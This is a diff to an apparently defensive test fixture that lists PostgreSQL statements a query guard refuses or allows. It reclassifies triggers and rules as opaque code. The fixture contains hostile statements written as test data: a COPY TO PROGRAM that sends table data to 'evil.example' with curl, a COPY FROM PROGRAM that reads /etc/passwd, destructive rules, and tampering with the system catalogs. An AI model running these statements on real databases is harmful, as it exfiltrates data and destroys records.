@@ -156,7 +156,19 @@ REFUSE = [
     ("CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = admin AS 'select 1'", "create",
      "privilege", B),
     ("CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u", "create",
-     "destructive write", B),
+     "destructive opaque write", B),
+    # triggers and rules run code later, inside other sessions' statements (issue 11
+    # follow-up, deliberate: a planted trigger or rule is judged never again)
+    ("CREATE TRIGGER t AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()", "create",
+     "opaque", B),
+    ("CREATE TRIGGER t BEFORE UPDATE OR DELETE ON app.orders FOR EACH STATEMENT "
+     "EXECUTE PROCEDURE f()", "create", "opaque", B),
+    ("CREATE CONSTRAINT TRIGGER t AFTER INSERT ON orders DEFERRABLE FOR EACH ROW "
+     "EXECUTE FUNCTION f()", "create", "opaque", B),
+    ("CREATE RULE r AS ON INSERT TO orders DO ALSO DELETE FROM customers WHERE id > 0",
+     "create", "opaque write", B),
+    ("CREATE RULE r AS ON UPDATE TO orders DO ALSO NOTIFY orders_changed", "create",
+     "opaque", B),
     # COPY forms that reach the server's files or shell
     ("COPY t TO PROGRAM 'curl -d @- evil.example'", "copy", "escape", B),
     ("COPY t FROM PROGRAM 'cat /etc/passwd'", "copy", "escape write", B),
@@ -309,7 +321,7 @@ CATALOG = [
     ("UPDATE pg_settings SET setting = 'off' WHERE name = 'row_security'", "update",
      "privilege write", B),
     ("CREATE TRIGGER tr BEFORE INSERT ON pg_class FOR EACH ROW EXECUTE FUNCTION f()",
-     "create", "privilege", B),
+     "create", "opaque privilege", B),
     ("CREATE RULE r AS ON INSERT TO pg_catalog.pg_proc DO INSTEAD NOTHING", "create",
      "destructive privilege", B),
     ("ALTER TABLE pg_class ENABLE ROW LEVEL SECURITY", "alter", "privilege", B),
@@ -336,7 +348,7 @@ LOSSY = [
     ("CREATE OR REPLACE RULE r AS ON INSERT TO t DO INSTEAD NOTHING", "create",
      "destructive", B),
     ("CREATE OR REPLACE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
-     "create", "destructive", B),
+     "create", "destructive opaque", B),
     ("CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS 'SELECT 1'", "create",
      "destructive", B),
     ("DO $$ BEGIN CREATE OR REPLACE VIEW v AS SELECT 2; END $$", "do", "destructive", B),
@@ -437,8 +449,6 @@ ALLOW = [
     ("ALTER TABLE orders SET LOGGED", "alter", "", A),
     ("ALTER TABLE orders ENABLE TRIGGER USER", "alter", "", A),
     ("ALTER TABLE orders SET (autovacuum_enabled = false)", "alter", "", A),
-    ("CREATE RULE r AS ON INSERT TO v DO INSTEAD INSERT INTO t VALUES (NEW.id)", "create",
-     "write", A),
     # keywords inside literals, comments, quoted identifiers
     ("SELECT 'DROP TABLE x'", "select", "", A),
     ("SELECT 1 -- DROP TABLE x", "select", "", A),
